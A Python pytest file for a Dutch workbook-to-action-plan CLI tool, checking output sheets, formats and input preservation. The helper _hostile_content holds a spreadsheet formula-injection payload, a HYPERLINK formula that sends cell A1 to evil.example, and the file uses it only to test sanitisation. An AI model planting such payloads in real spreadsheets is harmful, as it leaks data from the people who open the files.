"""``mvo-xl plan`` on real workbooks: the sheets, no formulas, inputs untouched, safe text in every format."""

from __future__ import annotations

import csv
import hashlib
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from mvo_xl import contract as c
from mvo_xl.cli import main
from tests.builders import MOB, clean_content, write_workbook

LEADS = ["=", "+", "-", "@", "\t", "\r"]


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _values(ws) -> list[tuple]:
    return [tuple(row) for row in ws.iter_rows(values_only=True)]


def _no_formulas(wb) -> None:
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"


def test_xlsx_plan_complete_no_formulas_input_untouched(tmp_path):
    src = write_workbook(tmp_path / "gemeente.xlsx")
    before = _sha(src)
    assert main(["plan", str(src)]) == 0
    out = tmp_path / "gemeente_actieplan.xlsx"
    assert out.exists() and _sha(src) == before

    wb = load_workbook(out)
    _no_formulas(wb)
    plan = wb[c.SHEET_PLAN]
    assert c.SHEET_DASHBOARD in wb.sheetnames and wb[c.SHEET_DASHBOARD]._charts
    assert not plan.merged_cells.ranges and not wb[c.SHEET_DASHBOARD].merged_cells.ranges
    assert not any(cell.hyperlink for row in plan.iter_rows() for cell in row)
    text = [str(v) for row in _values(plan) for v in row if v is not None]
    for objective in ("D-01", "D-02", "D-03"):
        assert objective in text
    assert "D-04" not in text  # not chosen
    for action in clean_content()["actions"]:
        assert action["ID"] in text and action["Actie"] in text
    # actions ordered by votes within D-01 and D-02
    rows = _values(plan)
    header = next(i for i, r in enumerate(rows) if r[0] == "Thema" and r[1] == "Doelstelling")
    order = [r[2] for r in rows[header + 1:] if r[2]]
    assert order == ["A-01", "A-02", "A-03", "A-04", "A-05", "A-06"]
    assert plan.print_title_rows.replace("$", "") == f"{header + 1}:{header + 1}"
    assert plan.page_setup.orientation == "landscape" and plan.page_setup.fitToWidth == 1
    assert plan.freeze_panes == f"A{header + 2}"

    # input sheets of the output equal those of the input, but for the tool's own columns
    inp = load_workbook(src)
    for spec in c.INPUT_TABLES:
        users = [i for i, col in enumerate(spec.columns) if not col.tool_owned]
        assert [[r[i] for i in users] for r in _values(wb[spec.sheet])] == \
            [[r[i] for i in users] for r in _values(inp[spec.sheet])], spec.sheet
    # beside each chosen code in Prioriteiten: what the action is, and its theme
    texts = {a["ID"]: a["Actie"] for a in clean_content()["actions"]}
    for row in _values(wb[c.VOTES.sheet])[1:]:
        if row[2]:
            assert row[3] == texts[row[2]] and row[4], row


def test_second_run_identical(tmp_path):
    src = write_workbook(tmp_path / "w.xlsx")
    assert main(["plan", str(src), "-o", str(tmp_path / "one.xlsx")]) == 0
    assert main(["plan", str(src), "-o", str(tmp_path / "two.xlsx")]) == 0
    # planning a planned workbook again rebuilds the same sheets
    assert main(["plan", str(tmp_path / "one.xlsx"), "-o", str(tmp_path / "three.xlsx"), "--titel", "w"]) == 0
    sheets = [load_workbook(tmp_path / n) for n in ("one.xlsx", "two.xlsx", "three.xlsx")]
    for name in (c.SHEET_PLAN, c.SHEET_DASHBOARD):
        first = _values(sheets[0][name])
        assert all(_values(wb[name]) == first for wb in sheets[1:]), name


def test_manual_group_kept(tmp_path):
    content = clean_content()
    content["wishes"][2]["Groep (handmatig)"] = "DM-01"
    src = write_workbook(tmp_path / "w.xlsx", content)
    assert main(["plan", str(src)]) == 0
    wb = load_workbook(tmp_path / "w_actieplan.xlsx")
    assert wb["Droombeelden"]["G4"].value == "DM-01"
    rows = _values(wb[c.SHEET_PLAN])
    d01 = next(r for r in rows if r[1] == "D-01" and r[2] is None and r[3])
    assert "3 wensen" in d01[11]


def test_csv_and_markdown(tmp_path):
    src = write_workbook(tmp_path / "w.xlsx")
    assert main(["plan", str(src), "--format", "csv"]) == 0
    data = (tmp_path / "w_actieplan.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][0] == "Thema" and len(rows) == 1 + 6
    assert [r[12] for r in rows[1:]] == ["A-01", "A-02", "A-03", "A-04", "A-05", "A-06"]

    assert main(["plan", str(src), "-o", str(tmp_path / "plan.md")]) == 0
    md = (tmp_path / "plan.md").read_text("utf-8")
    assert f"## {MOB}" in md and "### D-01" in md and "| A-01 |" in md
    assert not (tmp_path / "w_actieplan.xlsx").exists()


def test_usage_and_unreadable_input(tmp_path, capsys):
    src = write_workbook(tmp_path / "w.xlsx")
    assert main(["plan", str(src), "-o", str(tmp_path / "x.csv"), "--format", "md"]) == 2
    assert main(["plan", str(src), "-o", str(src)]) == 2
    bad = tmp_path / "kapot.xlsx"
    bad.write_bytes(b"dit is geen excel")
    assert main(["plan", str(bad)]) == 1
    err = capsys.readouterr().err
    assert "kapot.xlsx" in err and "Traceback" not in err
    assert main(["plan", str(tmp_path / "bestaat-niet.xlsx")]) == 1


def test_blocking_findings_warned_plan_still_written(tmp_path, capsys):
    content = clean_content()
    content["actions"].append({"ID": "A-20", "Doelstelling": "D-99", "Actie": "Wees", "Trekker": "Financiën"})
    src = write_workbook(tmp_path / "w.xlsx", content)
    assert main(["plan", str(src)]) == 1
    assert "D-99" in capsys.readouterr().err
    wb = load_workbook(tmp_path / "w_actieplan.xlsx")
    top = [str(v) for row in _values(wb[c.SHEET_PLAN])[:10] for v in row if v]
    assert any("D-99" in v for v in top)


def _hostile_content(lead: str) -> dict:
    content = clean_content()
    evil = lead + 'HYPERLINK("http://evil.example/?"&A1;"klik")'
    content["wishes"][0]["Droombeeld"] = evil
    content["objectives"][0]["Doelstelling"] = evil + " doel"
    content["objectives"][0]["Indicator"] = evil + " indicator"
    content["actions"][0]["Actie"] = evil + " actie"
    content["actions"][0]["Trekker"] = "Mobiliteit"
    return content


def _clean(text: str) -> str:
    """How the model stores typed text: trimmed, white space folded (a leading tab or CR disappears)."""
    from mvo_xl.normalize import clean_text

    return clean_text(text)


@pytest.mark.parametrize("lead", LEADS, ids=["eq", "plus", "minus", "at", "tab", "cr"])
def test_safe_text_xlsx(tmp_path, lead):
    content = _hostile_content(lead)
    src = write_workbook(tmp_path / "w.xlsx", content)
    assert main(["plan", str(src)]) == 0
    wb = load_workbook(tmp_path / "w_actieplan.xlsx")
    _no_formulas(wb)
    expected = {_clean(content["objectives"][0]["Doelstelling"]), _clean(content["actions"][0]["Actie"]),
                _clean(content["objectives"][0]["Indicator"])}
    found = {}
    for ws in (wb[c.SHEET_PLAN], wb[c.SHEET_DASHBOARD]):
        for row in ws.iter_rows():
            for cell in row:
                if cell.value in expected:
                    assert cell.data_type == "s", f"{ws.title}!{cell.coordinate}"
                    found[cell.value] = True
    assert set(found) == expected


@pytest.mark.parametrize("lead", LEADS, ids=["eq", "plus", "minus", "at", "tab", "cr"])
def test_safe_text_csv_and_markdown(tmp_path, lead):
    content = _hostile_content(lead)
    src = write_workbook(tmp_path / "w.xlsx", content)
    assert main(["plan", str(src), "-f", "csv"]) == 0
    assert main(["plan", str(src), "-f", "md"]) == 0
    rows = list(csv.reader(io.StringIO((tmp_path / "w_actieplan.csv").read_text("utf-8-sig")), delimiter=";"))
    triggers = tuple("=+-@\t\r")
    for row in rows:
        for value in row:
            assert not value.startswith(triggers), value
    texts = {_clean(content["objectives"][0]["Doelstelling"]), _clean(content["actions"][0]["Actie"])}
    for t in texts:
        if t.startswith(triggers):
            assert any(v == "'" + t for row in rows for v in row)
    md = (tmp_path / "w_actieplan.md").read_text("utf-8")
    for line in md.splitlines():
        table_row = line.startswith("|") and not line.startswith("|---")
        for cell in line.strip("| ").split(" | ") if table_row else []:
            assert not cell.startswith(triggers), line
        body = line.split(":** ", 1)[1] if ":** " in line else None
        if body:
            assert not body.startswith(triggers), line
    assert "HYPERLINK(" in md and "\r" not in md and "\t" not in md


def test_a_second_plan_never_replaces_the_first(tmp_path):
    """'w_actieplan.md' exists (maybe pasted into and edited): the new plan is 'w_actieplan (2).md'."""
    src = write_workbook(tmp_path / "w.xlsx")
    first = tmp_path / "w_actieplan.md"
    first.write_text("mijn eigen versie", encoding="utf-8")
    assert main(["plan", str(src), "--format", "md"]) == 0
    assert first.read_text(encoding="utf-8") == "mijn eigen versie"
    assert "### D-01" in (tmp_path / "w_actieplan (2).md").read_text("utf-8")
    assert main(["plan", str(src), "-o", str(first)]) == 0  # named on purpose: replaced
    assert "### D-01" in first.read_text("utf-8")
